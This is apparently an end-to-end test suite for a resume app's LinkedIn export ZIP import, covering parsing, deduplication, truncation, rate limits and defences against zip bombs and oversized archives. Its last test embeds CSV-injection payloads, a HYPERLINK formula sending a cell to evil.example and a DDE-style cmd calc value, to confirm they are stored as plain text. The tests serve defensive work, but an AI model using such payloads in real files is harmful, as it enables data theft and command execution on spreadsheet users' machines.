import {
  ERROR_CODES,
  LINKEDIN_API,
  LINKEDIN_EXPORT_FIELD,
  LINKEDIN_EXPORT_LIMITS,
  LINKEDIN_PAGES,
  RESUME_LIMITS,
} from '@resume/contracts';
import type { CompleteResume, LinkedInExportImportResponse, LinkedInExportPreview } from '@resume/contracts';
import {
  csv,
  EDUCATION_HEADER,
  POSITIONS_HEADER,
  realisticExport,
  SKILLS_HEADER,
  zipOf,
} from './support/linkedin-export';
import { PREMIUM_REQUIRED } from './support/paid-plans';
import { ResumeClient } from './support/resume-client';
import { targets } from './support/targets';
import { TestApp } from './support/test-app';

/**
 * The LinkedIn data export import (issue 13 point 3) and the development simulation (point 4), on exports built
 * in the tests with adm-zip: preview, import in one transaction, no duplicates on a second import, CSV quoting and
 * BOM, missing files, over-long fields, and the ZIP limits (non-ZIP, too large, zip bomb, too many entries, per-file size and rows).
 */
const error = (code: keyof typeof ERROR_CODES) => ({ code, message: ERROR_CODES[code].message });
const EXPORTS_PER_WINDOW = 6;

describe.each(targets())('LinkedIn export import and simulation on $name', (target) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await new TestApp(target, { LINKEDIN_EXPORTS_PER_WINDOW: String(EXPORTS_PER_WINDOW) }).start();
  }, 60_000);
  afterAll(async () => {
    await t?.stop();
  });

  const upload = (c: ResumeClient, zip: Buffer, mode?: 'preview' | 'import', name = 'Basic_LinkedInDataExport.zip') =>
    t
      .http()
      .post(`${LINKEDIN_API.importExport}${mode ? `?mode=${mode}` : ''}`)
      .set('Cookie', c.cookie)
      .attach(LINKEDIN_EXPORT_FIELD, zip, name);

  const resumeOf = async (c: ResumeClient): Promise<CompleteResume> => (await c.get('/api/complete-resume')).body;

  it('previews a realistic export without writing, then imports it in one go; a second import adds nothing', async () => {
    const c = await ResumeClient.signIn(t);
    await c.patch('/api/user', { name: null, title: 'Typed Title' });
    const before = await c.snapshot();

    const preview = await upload(c, realisticExport());
    expect(preview.status).toBe(200);
    const p: LinkedInExportPreview = preview.body;
    expect(p.mode).toBe('preview');
    expect(p.filesFound).toEqual([
      'Profile.csv',
      'Positions.csv',
      'Education.csv',
      'Skills.csv',
      'Projects.csv',
      'Certifications.csv',
    ]);
    expect(p.profile.filled).toEqual(
      expect.arrayContaining([
        { field: 'name', value: 'Ada Lovelace' },
        { field: 'location', value: 'London, United Kingdom' },
        { field: 'website', value: 'https://ada.example.org' },
        { field: 'summary', value: 'First to publish an algorithm for a machine.' },
      ]),
    );
    expect(p.profile.kept).toEqual([
      { field: 'title', current: 'Typed Title', fromLinkedIn: 'Analytical Engine Programmer' },
    ]);
    expect(p.sections.experiences.toAdd).toEqual([
      {
        title: 'Lead Programmer',
        company: 'Analytical Engines Ltd',
        location: 'London',
        startDate: '2020-01',
        endDate: null,
        current: true,
        description: 'Wrote the Bernoulli program.',
        tags: [],
      },
      expect.objectContaining({ title: 'Programmer', startDate: '2016-03', endDate: '2019-12', current: false }),
    ]);
    expect(p.sections.education.toAdd).toEqual([
      expect.objectContaining({
        degree: 'B.Sc. Mathematics',
        institution: 'University of London',
        startDate: '2010',
        endDate: '2014',
      }),
    ]);
    expect(p.sections.skills.toAdd.map((s) => s.name)).toEqual(['Mathematics', 'Algorithms', 'Poetry']);
    expect(p.sections.projects.toAdd).toEqual([expect.objectContaining({ name: 'Note G', year: '2018' })]);
    expect(p.sections.certifications.toAdd).toEqual([
      expect.objectContaining({ name: 'Certified Engine Operator', issuer: 'Babbage Institute', issueDate: '2021-02' }),
    ]);
    expect(await c.snapshot()).toEqual(before);

    const imported = await upload(c, realisticExport(), 'import');
    expect(imported.status).toBe(200);
    const r: LinkedInExportImportResponse = imported.body;
    expect(r.added).toEqual({ experiences: 2, education: 1, skills: 3, projects: 1, certifications: 1 });
    const resume = await resumeOf(c);
    expect(resume.experiences.map((e) => [e.title, e.company, e.order])).toEqual([
      ['Lead Programmer', 'Analytical Engines Ltd', 0],
      ['Programmer', 'Difference Works', 1],
    ]);
    expect([resume.user.name, resume.user.title, resume.resume.summary]).toEqual([
      'Ada Lovelace',
      'Typed Title',
      'First to publish an algorithm for a machine.',
    ]);

    const again = await upload(c, realisticExport(), 'import');
    expect(again.body.added).toEqual({ experiences: 0, education: 0, skills: 0, projects: 0, certifications: 0 });
    expect(again.body.alreadyThere).toEqual({
      experiences: 2,
      education: 1,
      skills: 3,
      projects: 1,
      certifications: 1,
    });
    expect((await resumeOf(c)).experiences).toHaveLength(2);
  });

  it('reads quoted fields with newlines and quotes, a UTF-8 BOM, unknown columns, and lists rows it skips', async () => {
    const c = await ResumeClient.signIn(t);
    const description = 'Line one, with a comma\nLine two with "quotes"\r\nLine three';
    const zip = zipOf({
      'Positions.csv': csv(
        [...POSITIONS_HEADER, 'Some Future Column'],
        [
          ['Zürich Réassurance', 'Ingénieure', description, 'Zürich', 'Feb 2019', 'Aug 2022', 'ignored'],
          ['No Start Ltd', 'Engineer', '', '', '', '', ''],
          ['Odd Date Ltd', 'Engineer', '', '', 'sometime', '', ''],
          ['Zürich Réassurance', 'Ingénieure', 'Again', '', 'Feb 2019', '', ''],
        ],
        { bom: true },
      ),
    });
    const res = await upload(c, zip, 'import');
    expect(res.status).toBe(200);
    expect(res.body.skipped).toEqual([
      {
        file: 'Positions.csv',
        row: 2,
        label: 'Engineer at No Start Ltd',
        reason: 'missing-required',
        field: 'Started On',
      },
      {
        file: 'Positions.csv',
        row: 3,
        label: 'Engineer at Odd Date Ltd',
        reason: 'unreadable-date',
        field: 'Started On',
      },
      { file: 'Positions.csv', row: 4, label: 'Ingénieure at Zürich Réassurance', reason: 'duplicate-in-export' },
    ]);
    const [experience] = (await resumeOf(c)).experiences;
    expect([experience.company, experience.title, experience.description]).toEqual([
      'Zürich Réassurance',
      'Ingénieure',
      description,
    ]);
  });

  it('imports what is there when files are missing, and refuses a ZIP with none of the export files', async () => {
    const c = await ResumeClient.signIn(t);
    const skillsOnly = await upload(c, zipOf({ 'Skills.csv': csv(SKILLS_HEADER, [['Rust']]) }), 'import');
    expect([skillsOnly.status, skillsOnly.body.filesFound, skillsOnly.body.added.skills]).toEqual([
      200,
      ['Skills.csv'],
      1,
    ]);
    const none = await upload(c, zipOf({ 'Connections.csv': 'First Name\r\nCharles\r\n' }));
    expect([none.status, none.body]).toEqual([400, error('LINKEDIN_EXPORT_EMPTY')]);
  });

  it('cuts over-long fields to the resume limits and says so', async () => {
    const c = await ResumeClient.signIn(t);
    const longTitle = 'T'.repeat(RESUME_LIMITS.shortTextMaxLength + 50);
    const longDescription = 'D'.repeat(RESUME_LIMITS.descriptionMaxLength + 10);
    const zip = zipOf({
      'Positions.csv': csv(POSITIONS_HEADER, [['Acme', longTitle, longDescription, '', '2021', '']]),
      'Education.csv': csv(EDUCATION_HEADER, [['School', 'Jan 2015', 'Dec 2018', '', 'Degree', '']]),
    });
    const res = await upload(c, zip, 'import');
    expect(res.status).toBe(200);
    expect(res.body.truncated).toEqual([
      expect.objectContaining({ section: 'experiences', field: 'title', maxLength: RESUME_LIMITS.shortTextMaxLength }),
      expect.objectContaining({
        section: 'experiences',
        field: 'description',
        maxLength: RESUME_LIMITS.descriptionMaxLength,
      }),
    ]);
    const resume = await resumeOf(c);
    expect(resume.experiences[0].title).toBe('T'.repeat(RESUME_LIMITS.shortTextMaxLength));
    expect(resume.experiences[0].startDate).toBe('2021-01');
    expect(resume.education[0]).toMatchObject({ startDate: '2015', endDate: '2018' });
  });

  it('refuses a file that is not a ZIP, a missing file, a zip bomb and too many entries', async () => {
    const c = await ResumeClient.signIn(t);
    const notZip = await upload(c, Buffer.from('First Name,Last Name\nAda,Lovelace\n'), 'preview', 'Profile.csv');
    expect([notZip.status, notZip.body]).toEqual([400, error('LINKEDIN_EXPORT_NOT_ZIP')]);

    const missing = await t.http().post(LINKEDIN_API.importExport).set('Cookie', c.cookie).field('mode', 'preview');
    expect([missing.status, missing.body]).toEqual([400, error('LINKEDIN_EXPORT_MISSING')]);

    const bomb = zipOf({ 'Positions.csv': Buffer.alloc(60 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const refused = await upload(c, bomb, 'import');
    expect([refused.status, refused.body]).toEqual([400, error('LINKEDIN_EXPORT_UNPACKED_TOO_LARGE')]);

    const many = zipOf(Object.fromEntries(Array.from({ length: 201 }, (_, i) => [`file-${i}.txt`, 'x'])));
    const tooMany = await upload(c, many);
    expect([tooMany.status, tooMany.body]).toEqual([400, error('LINKEDIN_EXPORT_TOO_MANY_FILES')]);
    expect((await resumeOf(c)).experiences).toEqual([]);
  });

  // How little the refusal costs (it stops unpacking at the limit) is measured as main-thread CPU in
  // bounded-input.e2e-spec.ts, not as wall time here, which a busy machine stretches.
  it('refuses a small ZIP whose CSV unpacks past the per-file limit, and still imports a real export', async () => {
    const c = await ResumeClient.signIn(t);
    // The security review's ZIP: ~80 KB that unpacks to ~40 MB of Positions.csv, under the 50 MB archive limit.
    const rows = 'A,B,Jan 2020\n'.repeat(3 * 1024 * 1024);
    const bomb = zipOf({ 'Positions.csv': `Company Name,Title,Started On\n${rows}` });
    expect(bomb.length).toBeLessThan(200 * 1024);
    const refused = await upload(c, bomb, 'preview');
    expect([refused.status, refused.body]).toEqual([413, error('LINKEDIN_EXPORT_FILE_TOO_LARGE')]);

    const imported = await upload(c, realisticExport(), 'import');
    expect(imported.status).toBe(200);
    expect((imported.body as LinkedInExportImportResponse).added.experiences).toBeGreaterThan(0);
    expect((await resumeOf(c)).experiences.length).toBe(imported.body.added.experiences);
  });

  it('refuses a CSV with more rows than an export holds, and reads one at the row limit', async () => {
    const c = await ResumeClient.signIn(t);
    const skills = (n: number) =>
      csv(
        SKILLS_HEADER,
        Array.from({ length: n }, (_, i) => [`Skill ${i}`]),
      );
    const over = await upload(c, zipOf({ 'Skills.csv': skills(LINKEDIN_EXPORT_LIMITS.rowsPerFile + 1) }), 'import');
    expect([over.status, over.body]).toEqual([413, error('LINKEDIN_EXPORT_TOO_MANY_ROWS')]);
    expect((await resumeOf(c)).skills).toEqual([]);

    const atLimit = await upload(c, zipOf({ 'Skills.csv': skills(LINKEDIN_EXPORT_LIMITS.rowsPerFile) }), 'preview');
    expect(atLimit.status).toBe(200);
    const { toAdd, skipped } = (atLimit.body as LinkedInExportPreview).sections.skills;
    expect(toAdd.length + skipped.length).toBe(LINKEDIN_EXPORT_LIMITS.rowsPerFile);
  });

  it('refuses an upload over 10 MB with 413 LINKEDIN_EXPORT_TOO_LARGE', async () => {
    const c = await ResumeClient.signIn(t);
    const res = await upload(c, Buffer.alloc(20 * 1024 * 1024, 1)).catch((e: { response?: unknown }) => e.response);
    expect(res).toBeDefined();
    const { status, body } = res as { status: number; body: unknown };
    expect([status, body]).toEqual([413, error('LINKEDIN_EXPORT_TOO_LARGE')]);
  });

  it('lets free users import their export, counts uploads per account, and refuses signed-out uploads', async () => {
    const c = await ResumeClient.signIn(t);
    for (let i = 0; i < EXPORTS_PER_WINDOW; i++) expect((await upload(c, realisticExport())).status).toBe(200);
    const limited = await upload(c, realisticExport());
    expect([limited.status, limited.body.code]).toEqual([429, 'RATE_LIMITED']);
    const signedOut = await t
      .http()
      .post(LINKEDIN_API.importExport)
      .attach(LINKEDIN_EXPORT_FIELD, realisticExport(), 'x.zip');
    expect(signedOut.status).toBe(401);
  });

  it('development simulation: connect your own account only, then the sample import fills and adds once', async () => {
    const c = await ResumeClient.signInPaid(t);
    const other = await ResumeClient.signInPaid(t);
    const wrong = await c.post(LINKEDIN_API.devConnect, { userId: other.userId });
    expect([wrong.status, wrong.body]).toEqual([403, error('LINKEDIN_WRONG_USER')]);
    expect((await c.post(LINKEDIN_API.devImport, {})).body).toEqual(error('LINKEDIN_NOT_CONNECTED'));

    const connect = await c.post(LINKEDIN_API.devConnect, { userId: c.userId });
    expect([connect.status, connect.body]).toEqual([200, { success: true, linkedinId: `dev-${c.userId}` }]);
    expect((await c.get(LINKEDIN_API.status)).body).toMatchObject({
      connected: true,
      mode: 'simulation',
      canSync: true,
    });

    await c.patch('/api/user', { name: null, title: null });
    const imported = await c.post(LINKEDIN_API.devImport, {});
    expect(imported.status).toBe(200);
    expect(imported.body.added).toEqual({ experiences: 2, education: 1, skills: 3, projects: 0, certifications: 0 });
    const resume = await resumeOf(c);
    expect([resume.user.name, resume.user.title, resume.user.linkedinId]).toEqual([
      'Alex Morgan',
      'Senior Software Engineer',
      `dev-${c.userId}`,
    ]);
    expect(resume.experiences.map((e) => e.company)).toEqual(['Northwind Traders', 'Contoso Ltd']);
    expect((await c.post(LINKEDIN_API.devImport, {})).body.added.experiences).toBe(0);

    const sync = await c.post(LINKEDIN_API.syncProfile, {});
    expect([sync.status, sync.body.kept]).toEqual([200, []]);
  });

  it('development simulation: paid plans only; navigating to connect links the simulated member', async () => {
    const free = await ResumeClient.signIn(t);
    expect((await free.post(LINKEDIN_API.devConnect, { userId: free.userId })).body).toEqual(PREMIUM_REQUIRED);
    const paid = await ResumeClient.signInPaid(t);
    const res = await paid.get(LINKEDIN_API.connect);
    expect([res.status, res.headers.location]).toEqual([302, LINKEDIN_PAGES.connected]);
    expect((await paid.get('/api/user')).body.linkedinId).toBe(`dev-${paid.userId}`);
  });

  it('keeps values a spreadsheet would run as a formula as typed: no export of the product is a spreadsheet', async () => {
    // OWASP's CSV injection prefixes: =, +, -, @ (docs/decisions/0035-bounded-input.md). In a resume '- ' starts a
    // bullet line and '+' a phone number, so the stored resume keeps them; only a CSV/TSV export would prefix them.
    const c = await ResumeClient.signIn(t);
    const description = '- Built the engine\n=HYPERLINK("https://evil.example/?x="&A1,"notes")';
    const zip = zipOf({
      'Positions.csv': csv(POSITIONS_HEADER, [
        ["@SUM(1+1)*cmd|' /C calc'!A0", '+Engineer', description, '-London', 'Jan 2020', ''],
      ]),
      'Skills.csv': csv(SKILLS_HEADER, [['=1+1']]),
    });
    const imported = await upload(c, zip, 'import');
    expect(imported.status).toBe(200);
    const [experience] = (await resumeOf(c)).experiences;
    expect([experience.company, experience.title, experience.description, experience.location]).toEqual([
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+Engineer',
      description,
      '-London',
    ]);
    expect((await resumeOf(c)).skills.map((s) => s.name)).toEqual(['=1+1']);
    // The exports: JSON Resume (a JSON attachment, strings typed as strings) and the PDF. Neither opens as cells.
    const exported = await c.get('/api/resume/export/json-resume');
    expect(exported.headers['content-type']).toMatch(/^application\/json/);
    expect(exported.headers['content-disposition']).toBe('attachment; filename="resume.json"');
    expect(JSON.parse(exported.text).work[0]).toMatchObject({
      name: "@SUM(1+1)*cmd|' /C calc'!A0",
      summary: description,
    });
  });
});
